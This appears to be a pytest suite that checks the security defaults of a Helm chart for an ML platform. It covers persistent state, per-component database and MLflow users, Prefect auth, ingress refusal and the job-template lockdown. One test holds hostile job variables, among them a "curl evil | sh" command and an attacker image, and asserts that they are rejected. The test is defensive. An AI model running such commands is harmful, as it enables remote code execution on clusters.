"""The chart fails closed and keeps state (issue 11): state on one PersistentVolumeClaim mounted
by every state user, separate database users, MLflow basic auth, Prefect API auth, no ingress for
an unauthenticated UI, a work-pool job template that a flow run cannot steer, no secret in a
ConfigMap, values files and the values schema that match what names them."""

from __future__ import annotations

import base64
import configparser
import importlib.util
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from chart_support import CHART, NEW_KUBE, ROOT, SCENARIOS, run_helm
from test_chart_policy import Pod, base_job_template, pods

pytestmark = pytest.mark.helm

Doc = dict[str, Any]
Render = Callable[..., list[Doc]]
CLAIM = "rel-driftloop-state"
STATE_USERS = {"serving", "flow-run", "monitoring", "deploy"}
PREFECT_CLIENTS = {"prefect-worker", "flow-run", "monitoring", "deploy"}


@pytest.fixture(params=SCENARIOS)
def docs(request: pytest.FixtureRequest, render: Render) -> list[Doc]:
    return render(request.param, NEW_KUBE)


def by_name(docs: list[Doc], kind: str, name: str) -> Doc:
    (found,) = [d for d in docs if d["kind"] == kind and d["metadata"]["name"] == name]
    return found


def pod_named(docs: list[Doc], where: str) -> Pod:
    (found,) = [p for p in pods(docs) if p.where == where]
    return found


def env_of(container: Doc) -> dict[str, Doc]:
    return {e["name"]: e for e in container.get("env") or []}


def secret_ref(env: dict[str, Doc], name: str) -> tuple[str, str]:
    ref = env[name]["valueFrom"]["secretKeyRef"]
    return ref["name"], ref["key"]


def container(pod: Pod, name: str) -> Doc:
    (found,) = [c for c in pod.containers() if c["name"] == name]
    return found


def helm_fails(helm_bin: Path, *settings: str) -> str:
    args = ["template", "rel", str(CHART)]
    for item in settings:
        args += ["--set", item]
    proc = run_helm(helm_bin, *args)
    assert proc.returncode != 0, f"rendered with {settings}"
    return proc.stderr


# ------------------------------------------------------------------------------------- state


def test_default_install_keeps_state_on_a_kept_persistent_volume_claim(render: Render) -> None:
    docs = render("default", NEW_KUBE)
    pvc = by_name(docs, "PersistentVolumeClaim", CLAIM)
    assert pvc["spec"]["accessModes"] == ["ReadWriteOnce"]
    assert pvc["metadata"]["annotations"]["helm.sh/resource-policy"] == "keep"
    values = yaml.safe_load((CHART / "values.yaml").read_text())
    assert values["sharedState"]["enabled"] is True
    assert values["sharedState"]["resourcePolicy"] == "keep"


def test_every_state_user_mounts_the_state_claim_and_no_state_is_an_empty_dir(
    docs: list[Doc],
) -> None:
    claims = {d["metadata"]["name"] for d in docs if d["kind"] == "PersistentVolumeClaim"} | {
        CLAIM,
        "driftloop-k8s-local-state",
    }
    seen = set()
    for pod in pods(docs):
        volumes = {v["name"]: v for v in pod.spec.get("volumes") or []}
        mounts_state = any(
            m["mountPath"] == "/var/lib/driftloop"
            for c in pod.containers()
            for m in c.get("volumeMounts") or []
        )
        component = pod.labels["app.kubernetes.io/component"]
        if pod.where.endswith("test-serving-selfcheck"):
            component = "serving-selfcheck"  # runs the serving container as the Deployment does
        if "state" in volumes or mounts_state:
            state = volumes["state"]
            assert "emptyDir" not in state, f"{pod.where}: state on an emptyDir"
            assert state["persistentVolumeClaim"]["claimName"] in claims, pod.where
            assert pod.labels["driftloop.io/state"] == state["persistentVolumeClaim"]["claimName"]
            seen.add(component)
        else:
            assert component not in STATE_USERS, f"{pod.where} does not mount the state"
    expected = STATE_USERS | {"serving-selfcheck"}
    present = {p.labels["app.kubernetes.io/component"] for p in pods(docs)}
    if "serving" not in present:
        expected.discard("serving-selfcheck")
    assert seen == expected & (present | {"serving-selfcheck"})


def test_state_users_of_the_default_install_are_all_present(render: Render) -> None:
    """Serving, flow runs, deploy hook and the self-check by default; the CronJob in its mode."""
    default = {p.labels["app.kubernetes.io/component"] for p in pods(render("default", NEW_KUBE))}
    assert {"serving", "flow-run", "deploy", "test"} <= default
    cron = pods(render("ingress-autoscaling", NEW_KUBE))
    monitoring = [p for p in cron if p.kind == "CronJob"]
    assert monitoring
    assert monitoring[0].spec["volumes"][1]["persistentVolumeClaim"]["claimName"] == CLAIM


def test_training_jobs_get_the_state_claim_through_settings(docs: list[Doc]) -> None:
    for pod in pods(docs):
        for c in pod.spec["containers"]:
            env = env_of(c)
            if "DRIFTLOOP_STATE_DIR" in env:
                claim = env["DRIFTLOOP_KUBERNETES__STATE_CLAIM"]["value"]
                assert claim == pod.spec["volumes"][1]["persistentVolumeClaim"]["claimName"]
                assert env["DRIFTLOOP_KUBERNETES__NAMESPACE"]["value"] == "ml"


def test_read_write_once_state_pods_are_colocated_and_read_write_many_are_not(
    render: Render,
) -> None:
    def affinity(docs: list[Doc]) -> dict[str, Any]:
        return {
            p.where: p.spec.get("affinity") for p in pods(docs) if "driftloop.io/state" in p.labels
        }

    for where, aff in affinity(render("default", NEW_KUBE)).items():
        (term,) = aff["podAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]
        assert term["topologyKey"] == "kubernetes.io/hostname", where
        assert term["labelSelector"]["matchLabels"] == {"driftloop.io/state": CLAIM}, where
    rwx = render("gpu-training", NEW_KUBE)
    assert by_name(rwx, "PersistentVolumeClaim", CLAIM)["spec"]["accessModes"] == ["ReadWriteMany"]
    assert all(aff is None for aff in affinity(rwx).values())


def test_state_on_empty_dirs_is_refused(helm_bin: Path) -> None:
    assert "sharedState.enabled=false is refused" in helm_fails(
        helm_bin, "sharedState.enabled=false"
    )


def test_the_claim_resource_policy_can_be_dropped(render: Render) -> None:
    docs = render("default", NEW_KUBE, "--set", "sharedState.resourcePolicy=")
    assert "annotations" not in by_name(docs, "PersistentVolumeClaim", CLAIM)["metadata"]


# ------------------------------------------------------------------------------ PostgreSQL


def test_no_component_connects_as_the_postgres_superuser(docs: list[Doc]) -> None:
    pg_secret = "rel-driftloop-postgresql"
    for pod in pods(docs):
        component = pod.labels["app.kubernetes.io/component"]
        for c in pod.containers():
            env = env_of(c)
            for name, e in env.items():
                ref = (e.get("valueFrom") or {}).get("secretKeyRef") or {}
                if ref.get("name") == pg_secret and ref["key"] == "password":
                    assert component == "postgresql", f"{pod.where}: superuser password in {name}"
            for value in (e.get("value") or "" for e in env.values()):
                user = re.match(r"postgresql(?:\+\w+)?://([^:@/]+)", value)
                assert not user or user.group(1) not in ("postgres", "driftloop"), value


def test_mlflow_and_prefect_use_their_own_database_users(render: Render) -> None:
    docs = render("default", NEW_KUBE)
    mlflow = container(pod_named(docs, "Deployment/rel-driftloop-mlflow"), "mlflow")
    env = env_of(mlflow)
    assert env["MLFLOW_BACKEND_STORE_URI"]["value"].startswith(
        "postgresql+psycopg2://mlflow:$(PGPASSWORD)@rel-driftloop-postgresql:5432/mlflow"
    )
    assert secret_ref(env, "PGPASSWORD") == ("rel-driftloop-postgresql", "mlflow-password")
    prefect = container(
        pod_named(docs, "Deployment/rel-driftloop-prefect-server"), "prefect-server"
    )
    env = env_of(prefect)
    assert env["PREFECT_API_DATABASE_CONNECTION_URL"]["value"].startswith(
        "postgresql+asyncpg://prefect:$(PREFECT_DB_PASSWORD)@"
    )
    assert secret_ref(env, "PREFECT_DB_PASSWORD") == (
        "rel-driftloop-postgresql",
        "prefect-password",
    )
    pg = container(pod_named(docs, "StatefulSet/rel-driftloop-postgresql"), "postgresql")
    env = env_of(pg)
    assert env["POSTGRES_USER"]["value"] == "postgres"
    assert secret_ref(env, "DRIFTLOOP_MLFLOW_DB_PASSWORD")[1] == "mlflow-password"
    assert secret_ref(env, "DRIFTLOOP_PREFECT_DB_PASSWORD")[1] == "prefect-password"
    script = by_name(docs, "ConfigMap", "rel-driftloop-postgresql-init")["data"][
        "10-driftloop-users.sh"
    ]
    assert script.count("NOSUPERUSER NOCREATEDB NOCREATEROLE") == 2
    assert "\\getenv mlflow_password DRIFTLOOP_MLFLOW_DB_PASSWORD" in script
    init = next(
        v
        for v in pod_named(docs, "StatefulSet/rel-driftloop-postgresql").spec["volumes"]
        if v["name"] == "init"
    )
    assert init["configMap"]["defaultMode"] == 0o555


def test_an_external_server_takes_the_user_passwords_from_the_existing_secret(
    render: Render,
) -> None:
    docs = render("external-postgres-s3", NEW_KUBE)
    assert not [
        d for d in docs if d["kind"] == "StatefulSet" and "postgresql" in d["metadata"]["name"]
    ]
    env = env_of(container(pod_named(docs, "Deployment/rel-driftloop-mlflow"), "mlflow"))
    assert secret_ref(env, "PGPASSWORD") == ("driftloop-db", "mlflow-password")
    assert "?sslmode=require" in env["MLFLOW_BACKEND_STORE_URI"]["value"]


# ---------------------------------------------------------------------------------- MLflow


def test_mlflow_runs_basic_auth_with_its_config_from_a_secret(render: Render) -> None:
    docs = render("default", NEW_KUBE)
    pod = pod_named(docs, "Deployment/rel-driftloop-mlflow")
    mlflow = container(pod, "mlflow")
    assert "--app-name=basic-auth" in mlflow["args"]
    env = env_of(mlflow)
    assert env["MLFLOW_AUTH_CONFIG_PATH"]["value"] == "/etc/mlflow-auth/basic_auth.ini"
    assert secret_ref(env, "MLFLOW_AUTH_ADMIN_PASSWORD") == (
        "rel-driftloop-mlflow-auth",
        "admin-password",
    )
    assert secret_ref(env, "MLFLOW_FLASK_SERVER_SECRET_KEY")[1] == "flask-secret-key"
    volume = next(v for v in pod.spec["volumes"] if v["name"] == "auth-config")
    config = by_name(docs, "Secret", volume["secret"]["secretName"])
    ini = config["stringData"]["basic_auth.ini"]
    parser = configparser.ConfigParser()
    parser.read_string(ini)
    section = parser["mlflow"]
    assert (
        section["database_uri"]
        == "postgresql+psycopg2://mlflow@rel-driftloop-postgresql:5432/mlflow_auth"
    )
    # users reach only what the provision hook granted them
    assert section["default_permission"] == "NO_PERMISSIONS"
    assert "admin_password" not in section  # from the environment (a Secret), never the file
    assert "checksum/auth-config" in pod.meta["annotations"]


def test_mlflow_auth_config_keys_are_ones_mlflow_reads(render: Render) -> None:
    """Every key of the rendered ini is a key of MLflow's own basic_auth.ini."""
    spec = importlib.util.find_spec("mlflow")
    assert spec
    assert spec.origin
    shipped = (Path(spec.origin).parent / "server" / "auth" / "basic_auth.ini").read_text()
    known = set(re.findall(r"^#?\s*(\w+)\s*=", shipped, re.MULTILINE))
    docs = render("default", NEW_KUBE)
    ini = by_name(docs, "Secret", "rel-driftloop-mlflow-auth-config")["stringData"][
        "basic_auth.ini"
    ]
    used = set(re.findall(r"^(\w+)\s*=", ini, re.MULTILINE))
    assert used <= known, used - known


def test_components_get_their_own_mlflow_users(render: Render) -> None:
    docs = render("ingress-autoscaling", NEW_KUBE)
    auth = "rel-driftloop-mlflow-auth"
    serving = env_of(container(pod_named(docs, "Deployment/rel-driftloop-serving"), "serving"))
    assert serving["MLFLOW_TRACKING_USERNAME"]["value"] == "driftloop-serving"
    assert secret_ref(serving, "MLFLOW_TRACKING_PASSWORD") == (auth, "serving-password")
    assert serving["DRIFTLOOP_MLFLOW__AUTH__ROLLOUT_USERNAME"]["value"] == "driftloop-rollout"
    assert secret_ref(serving, "DRIFTLOOP_MLFLOW__AUTH__ROLLOUT_PASSWORD") == (
        auth,
        "rollout-password",
    )
    for where, name in (
        ("work-pool base job template", "prefect-job"),
        ("CronJob/rel-driftloop-monitoring", "monitoring"),
    ):
        env = env_of(container(pod_named(docs, where), name))
        assert env["MLFLOW_TRACKING_USERNAME"]["value"] == "driftloop-flows", where
        assert secret_ref(env, "MLFLOW_TRACKING_PASSWORD") == (auth, "flows-password"), where
    worker = env_of(
        container(pod_named(docs, "Deployment/rel-driftloop-prefect-worker"), "prefect-worker")
    )
    assert "MLFLOW_TRACKING_PASSWORD" not in worker  # it starts Jobs, it never calls MLflow


def test_the_provision_job_gets_the_admin_and_every_user(render: Render) -> None:
    """Found live (make k8s-e2e): as a post-install hook it never ran under `helm install
    --wait` (hooks run after every Deployment is Ready, and serving is Ready only once its
    MLflow user exists). It is a release object, one per revision, so an upgrade provisions
    again."""
    docs = render("default", NEW_KUBE)
    job = by_name(docs, "Job", "rel-driftloop-auth-provision-1")
    assert "helm.sh/hook" not in (job["metadata"].get("annotations") or {})
    (c,) = job["spec"]["template"]["spec"]["containers"]
    assert c["args"] == ["auth", "provision"]
    assert c["image"] == "driftloop-platform:0.1.0"
    env = env_of(c)
    assert env["MLFLOW_TRACKING_URI"]["value"] == "http://rel-driftloop-mlflow:5000"
    assert env["DRIFTLOOP_AUTH_ADMIN_USERNAME"]["value"] == "admin"
    assert secret_ref(env, "DRIFTLOOP_AUTH_ADMIN_PASSWORD")[1] == "admin-password"
    for role in ("flows", "serving", "rollout"):
        assert env[f"DRIFTLOOP_AUTH_{role.upper()}_USERNAME"]["value"] == f"driftloop-{role}"
        assert secret_ref(env, f"DRIFTLOOP_AUTH_{role.upper()}_PASSWORD") == (
            "rel-driftloop-mlflow-auth",
            f"{role}-password",
        )


def test_an_existing_mlflow_auth_secret_replaces_the_generated_one(render: Render) -> None:
    docs = render("default", NEW_KUBE, "--set", "mlflow.auth.existingSecret=my-mlflow-auth")
    assert not [d for d in docs if d["metadata"]["name"] == "rel-driftloop-mlflow-auth"]
    env = env_of(container(pod_named(docs, "Deployment/rel-driftloop-serving"), "serving"))
    assert secret_ref(env, "MLFLOW_TRACKING_PASSWORD") == ("my-mlflow-auth", "serving-password")


def test_generated_credentials_survive_in_one_render(render: Render) -> None:
    """Generated Secrets are kept on uninstall where the data they guard outlives the release."""
    docs = render("default", NEW_KUBE)
    for name in ("rel-driftloop-postgresql", "rel-driftloop-mlflow-auth"):
        secret = by_name(docs, "Secret", name)
        assert secret["metadata"]["annotations"]["helm.sh/resource-policy"] == "keep"
        for value in secret["data"].values():
            assert len(base64.b64decode(value)) >= 32


# --------------------------------------------------------------------------------- Prefect


def test_prefect_server_requires_an_auth_string_that_every_client_sends(docs: list[Doc]) -> None:
    servers = [p for p in pods(docs) if p.labels["app.kubernetes.io/component"] == "prefect-server"]
    if not servers:
        return
    (server,) = servers
    env = env_of(container(server, "prefect-server"))
    expected = secret_ref(env, "PREFECT_SERVER_API_AUTH_STRING")
    clients = 0
    for pod in pods(docs):
        for c in pod.containers():
            env = env_of(c)
            if pod.labels["app.kubernetes.io/component"] in PREFECT_CLIENTS:
                assert secret_ref(env, "PREFECT_API_AUTH_STRING") == expected, pod.where
                clients += 1
            elif pod.labels.get("driftloop.io/test") == "prefect":  # its `helm test` pod
                assert secret_ref(env, "PREFECT_API_AUTH_STRING") == expected, pod.where
            else:  # least privilege: serving and the rest never call Prefect
                assert "PREFECT_API_AUTH_STRING" not in env, pod.where
    assert clients >= 3  # worker (and its init container), flow runs, deploy hook


def test_generated_prefect_auth_string_is_user_and_password(render: Render) -> None:
    docs = render("default", NEW_KUBE)
    secret = by_name(docs, "Secret", "rel-driftloop-prefect-auth")
    user, password = base64.b64decode(secret["data"]["auth-string"]).decode().split(":")
    assert user == "driftloop"
    assert len(password) >= 32


# --------------------------------------------------------------------------------- ingress


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        (["ingress.mlflowHost=m.example", "mlflow.auth.enabled=false"], "without authentication"),
        (["ingress.prefectHost=p.example", "prefect.auth.enabled=false"], "without authentication"),
        (["ingress.servingHost=s.example", "serving.auth.enabled=false"], "without authentication"),
        (
            [
                "ingress.mlflowHost=m.example",
                "mlflow.enabled=false",
                "mlflow.externalTrackingUri=https://mlflow.example",
            ],
            "mlflow.enabled=false",
        ),
    ],
)
def test_ingress_refuses_to_publish_an_unauthenticated_ui(
    helm_bin: Path, settings: list[str], message: str
) -> None:
    assert message in helm_fails(helm_bin, "ingress.enabled=true", *settings)


def test_ingress_renders_when_every_published_component_has_auth(render: Render) -> None:
    docs = render("ingress-autoscaling", NEW_KUBE)
    (ingress,) = [d for d in docs if d["kind"] == "Ingress"]
    assert {r["host"] for r in ingress["spec"]["rules"]} == {
        "api.driftloop.example",
        "mlflow.driftloop.example",
        "prefect.driftloop.example",
    }


def test_mlflow_and_prefect_auth_may_be_off_without_an_ingress(render: Render) -> None:
    docs = render(
        "default",
        NEW_KUBE,
        "--set",
        "mlflow.auth.enabled=false",
        "--set",
        "prefect.auth.enabled=false",
    )
    mlflow = container(pod_named(docs, "Deployment/rel-driftloop-mlflow"), "mlflow")
    assert "--app-name=basic-auth" not in mlflow["args"]
    assert not [d for d in docs if d["metadata"]["name"].endswith(("mlflow-auth", "prefect-auth"))]
    assert not [d for d in docs if "auth-provision" in d["metadata"]["name"] and d["kind"] == "Job"]


# ------------------------------------------------------------------ work pool job template

FIXED_VARIABLES = {
    "image",
    "image_pull_policy",
    "command",
    "service_account_name",
    "namespace",
    "env",
}


def test_job_template_has_no_variable_for_image_command_or_service_account(
    docs: list[Doc],
) -> None:
    if not any(
        d["kind"] == "ConfigMap" and "base-job-template.json" in d.get("data", {}) for d in docs
    ):
        return
    template = base_job_template(docs)
    variables = template["variables"]
    assert not FIXED_VARIABLES & set(variables["properties"])
    assert variables["additionalProperties"] is False
    config = template["job_configuration"]
    placeholders = set(re.findall(r"{{\s*(\w+)\s*}}", json.dumps(config)))
    assert placeholders <= set(variables["properties"]), placeholders
    spec = config["job_manifest"]["spec"]["template"]["spec"]
    assert "{{" not in json.dumps(spec), "the pod spec must be literal"
    (c,) = spec["containers"]
    assert c["command"] == ["prefect"]
    assert c["args"] == ["flow-run", "execute"]
    assert c["image"].startswith("driftloop-platform:")
    assert spec["serviceAccountName"] == "rel-driftloop-flow-run"
    assert config["namespace"] == "ml"
    assert config["job_manifest"]["metadata"]["namespace"] == "ml"


def test_prefect_refuses_job_variables_that_choose_image_command_or_account(
    render: Render,
) -> None:
    """Prefect's own validator (the one the server runs on deployments and flow runs) rejects
    them, and Prefect's templating leaves the pod spec alone even if they reach it."""
    from prefect.utilities.schema_tools.validation import ValidationError, validate
    from prefect.utilities.templating import apply_values

    template = base_job_template(render("default", NEW_KUBE))
    schema = template["variables"]
    validate({"backoff_limit": 2, "name": "ok"}, schema, raise_on_error=True, ignore_required=True)
    hostile = {
        "image": "attacker/image:latest",
        "command": "sh -c 'curl evil | sh'",
        "service_account_name": "default",
        "image_pull_policy": "Always",
        "namespace": "kube-system",
        "env": {"PYTHONPATH": "/var/lib/driftloop/evil"},
    }
    for key, value in hostile.items():
        with pytest.raises(ValidationError):
            validate({key: value}, schema, raise_on_error=True, ignore_required=True)
    defaults = {k: v.get("default") for k, v in schema["properties"].items()}
    rendered = apply_values(template["job_configuration"], {**defaults, **hostile, "name": "run"})
    spec = rendered["job_manifest"]["spec"]["template"]["spec"]
    original = template["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]
    assert spec == original
    assert rendered["namespace"] == "ml"


# ------------------------------------------------------------------------ secrets and files


def test_no_secret_value_is_in_a_config_map(docs: list[Doc]) -> None:
    values = {
        v
        for d in docs
        if d["kind"] == "Secret"
        for v in list((d.get("data") or {}).values())
        + [base64.b64encode(s.encode()).decode() for s in (d.get("stringData") or {}).values()]
    }
    plain = {base64.b64decode(v).decode() for v in values}
    for cm in (d for d in docs if d["kind"] == "ConfigMap"):
        text = json.dumps(cm["data"])
        for value in values | plain:
            if len(value) >= 16:
                assert value not in text, cm["metadata"]["name"]
        assert not re.search(r"://[^/@\s\"]+:[^$/@\s\"][^/@\s\"]*@", text), cm["metadata"]["name"]
        # A literal password (PASSWORD 'x', password = x); psql's :'variables' are fine.
        assert not re.search(r"(?i)\bpassword(\s*=\s*[^\s$:]|\s+'[^']*')", text), cm["metadata"][
            "name"
        ]


VALUES_REF = re.compile(r"[\w$/.-]*values[\w-]*\.ya?ml")


def named_values_files() -> dict[str, set[str]]:
    """Values files named by scripts, the Makefile, READMEs and tests: {name: {where}}. Globs
    and f-string patterns (``ci/*-values.yaml``, ``{scenario}-values.yaml``) are not names."""
    sources = [ROOT / "Makefile", ROOT / "README.md", CHART / "README.md"]
    sources += sorted((ROOT / "scripts").rglob("*.sh")) + sorted((ROOT / "scripts").rglob("*.md"))
    sources += sorted((ROOT / "tests").rglob("*.py"))
    found: dict[str, set[str]] = {}
    for source in sources:
        if not source.is_file():
            continue
        for match in VALUES_REF.finditer(source.read_text()):
            ref = match.group(0)
            before = source.read_text()[max(match.start() - 1, 0) : match.start()]
            if ref.startswith("-") or before in ("*", "}") or ref == "values.yaml":
                continue
            found.setdefault(ref, set()).add(str(source.relative_to(ROOT)))
    return found


def exists(ref: str, where: str) -> bool:
    name = re.sub(r"^.*\$\{?\w+\}?/", "", ref)  # $CHART/ci/x.yaml, $HERE/x.yaml
    bases = [ROOT, CHART, (ROOT / where).parent, ROOT / "helm"]
    if any((base / name).is_file() for base in bases):
        return True
    # A bare file name (a path built with pathlib's / operator): somewhere in the project.
    return "/" not in name and any(
        any(folder.rglob(name)) for folder in (ROOT / "scripts", ROOT / "helm", ROOT / "tests")
    )


def test_every_values_file_named_by_a_script_or_test_exists() -> None:
    refs = named_values_files()
    assert "helm/driftloop/ci/minimal-kind-values.yaml" in refs
    assert "scripts/k8s-local/values-k8s-local.yaml" in refs
    missing = sorted(
        f"{ref} (named in {', '.join(sorted(where))})"
        for ref, where in refs.items()
        if not all(exists(ref, w) for w in where)
    )
    assert missing == []


def schema_paths(schema: Doc, prefix: str = "") -> set[str]:
    paths = set()
    for key, sub in (schema.get("properties") or {}).items():
        paths.add(prefix + key)
        paths |= schema_paths(sub, f"{prefix}{key}.")
    return paths


def value_paths(node: Any, schema: Doc, prefix: str = "") -> set[str]:
    paths = set()
    if isinstance(node, dict) and "properties" in schema:
        for key, value in node.items():
            paths.add(prefix + key)
            paths |= value_paths(value, schema["properties"].get(key, {}), f"{prefix}{key}.")
    return paths


def test_values_schema_is_in_step_with_values_yaml() -> None:
    schema = json.loads((CHART / "values.schema.json").read_text())
    values = yaml.safe_load((CHART / "values.yaml").read_text())
    in_values = value_paths(values, schema)
    in_schema = schema_paths(schema)
    assert in_values - in_schema == set(), "values.yaml keys the schema does not know"
    # Schema keys without a documented default (resources' requests/limits are free-form).
    undocumented = {p for p in in_schema - in_values if not p.endswith((".requests", ".limits"))}
    assert undocumented == set(), "schema keys missing from values.yaml"


def test_readme_explains_protection_and_rotation_of_every_secret(render: Render) -> None:
    readme = (CHART / "README.md").read_text()
    section = readme.split("## Security", 1)[1].split("\n## ", 1)[0]
    docs = render("default", NEW_KUBE)
    for secret in (d for d in docs if d["kind"] == "Secret"):
        name = secret["metadata"]["name"].removeprefix("rel-driftloop-")
        assert f"`<release>-driftloop-{name}`" in section, name
    for word in ("rollout restart", "existingSecret", "helm upgrade", "helm.sh/resource-policy"):
        assert word in section, word


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_the_kubernetes_worker_accepts_the_job_template(scenario: str, render: Render) -> None:
    """Found live (make k8s-e2e): prefect-kubernetes' worker refused the template ("Job is
    missing required attributes at ... /spec/template/spec/parallelism") and every flow run
    crashed at submission. Here the worker's own configuration class (the pinned release the
    platform image runs) validates the Job of a flow run from the rendered template, templated
    the way the worker does (prefect.workers.base.from_template_and_values, minus its server
    lookups of blocks and variables, which the template does not use)."""
    from prefect.utilities.templating import apply_values
    from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

    template = base_job_template(render(scenario, NEW_KUBE))
    props = template["variables"]["properties"]
    values = {k: v["default"] for k, v in props.items() if "default" in v}
    populated = apply_values(template["job_configuration"], {**values, "name": "nimble-fox"})
    config = KubernetesWorkerJobConfiguration(**populated)
    job = config.job_manifest
    assert job["kind"] == "Job"
    pod = job["spec"]["template"]["spec"]
    assert pod["containers"][0]["name"] == "prefect-job"
    assert pod["restartPolicy"] == "Never"
    assert pod["serviceAccountName"].endswith("-flow-run")


def test_dvc_writes_only_to_mounted_volumes(docs: list[Doc]) -> None:
    """Found live (make k8s-e2e): DVC's site cache defaulted to /var/tmp/dvc on the read-only
    root filesystem, so the ingest Job failed. Every container that gets driftloop's settings
    (DRIFTLOOP_STATE_DIR) points DVC's site cache into a writable volume it mounts."""
    checked = 0
    for pod in pods(docs):
        for c in pod.containers():
            env = {e["name"]: e.get("value") for e in c.get("env") or []}
            if "DRIFTLOOP_STATE_DIR" not in env:
                continue
            checked += 1
            where = f"{pod.where} container {c['name']}"
            cache = env.get("DVC_SITE_CACHE_DIR")
            assert cache, f"{where}: DVC would write to /var/tmp on a read-only root filesystem"
            mounts = [m["mountPath"] for m in c.get("volumeMounts") or [] if not m.get("readOnly")]
            assert any(cache == m or cache.startswith(m.rstrip("/") + "/") for m in mounts), where
    assert checked >= 3


def test_job_names_fit_the_label_limit_with_a_long_release_name(helm_bin: Path) -> None:
    """A Job's name becomes its pods' job-name label (at most 63 characters); the per-revision
    provision Job appends its revision after truncating (review finding: 65 characters)."""
    release = "a-release-name-of-forty-five-characters-exact"
    proc = run_helm(helm_bin, "template", release, str(CHART), "--namespace", "ml")
    assert proc.returncode == 0, proc.stderr
    jobs = [d for d in yaml.safe_load_all(proc.stdout) if d and d["kind"] == "Job"]
    assert any(j["metadata"]["name"].endswith("-1") for j in jobs)
    for job in jobs:
        assert len(job["metadata"]["name"]) <= 63, job["metadata"]["name"]
